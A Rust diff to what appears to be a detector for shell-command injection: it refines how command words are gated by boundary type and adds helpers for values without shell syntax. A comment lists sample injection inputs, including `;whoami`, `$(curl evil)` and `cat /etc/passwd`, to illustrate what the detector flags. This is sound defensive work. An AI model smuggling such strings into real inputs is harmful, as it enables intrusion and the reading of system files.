@@ -4,7 +4,7 @@
 //! with its arguments: `;whoami`, `|id`, `$(curl evil)` and `cat /etc/passwd` are commands;
 //! "echo in the mirror" and "Tom & Jerry" are not.
 
-use super::Match;
+use super::{Boundary, Match};
 use crate::normalize::shell::normalize_shell;
 
 /// Commands an attacker runs for their effect alone; in command position after a separator they
@@ -417,14 +417,49 @@ fn recursive_shell_function(shell: &str) -> Option<usize> {
 /// Every command and wrapper name: the prefilter's literals (with no letter or digit on either
 /// side). Without quotes, escapes or expansions the normalised text is the input lowercased, and
 /// no command position can hold a command unless one of these words occurs.
-pub(crate) fn gate_words() -> impl Iterator<Item = &'static str> {
+///
+/// Without any byte of [`SHELL_SYNTAX`] a value has one command position, its first word, and
+/// there a command counts only as a tool name (even alone), a wrapper with a command after it,
+/// or a command with a shell-looking argument: the boundaries say so.
+pub(crate) fn gate_words() -> impl Iterator<Item = (&'static str, Boundary)> {
     STRONG
         .iter()
         .chain(WEAK)
         .chain(PREFIXES)
-        .chain(TOOLS)
-        .copied()
-        .chain(["alias", "shell", "system", "databases", "load"])
+        .map(|w| (*w, Boundary::CommandWord))
+        .chain(TOOLS.iter().map(|w| (*w, Boundary::Command)))
+        .chain(
+            ["alias", "shell", "system", "databases", "load"]
+                .into_iter()
+                .map(|w| (w, Boundary::ShellSyntax)),
+        )
+}
+
+/// Bytes that make more than the first word a command position or change the words
+/// themselves: separators, substitutions, redirections, grouping, quotes and escapes,
+/// expansions, assignments (`a=b cmd`), paths (`/usr/bin/id`), globs. A value without them
+/// (and ASCII) is judged on its first word alone (see [`gate_words`]).
+pub(crate) const SHELL_SYNTAX: &[u8] = b";\n\r|&`$()<>{}'\"\\^/=*?[";
+
+/// The whitespace `command_at` splits words on, as ASCII bytes (line breaks are separators).
+fn word_space(b: u8) -> bool {
+    matches!(b, b' ' | b'\t' | 0x0b | 0x0c)
+}
+
+/// Whether `start` is where the first word of `bytes` (a value without shell syntax) begins.
+pub(crate) fn at_first_word(bytes: &[u8], start: usize) -> bool {
+    bytes[..start].iter().all(|&b| word_space(b))
+}
+
+/// Whether `bytes` (a value without shell syntax) has a second word.
+pub(crate) fn has_second_word(bytes: &[u8]) -> bool {
+    let Some(first) = bytes.iter().position(|&b| !word_space(b)) else {
+        return false;
+    };
+    let rest = &bytes[first..];
+    rest.iter()
+        .position(|&b| word_space(b))
+        .is_some_and(|gap| rest[gap..].iter().any(|&b| !word_space(b)))
 }
 
 /// Finds a known command word in the normalised text that does not appear literally in the
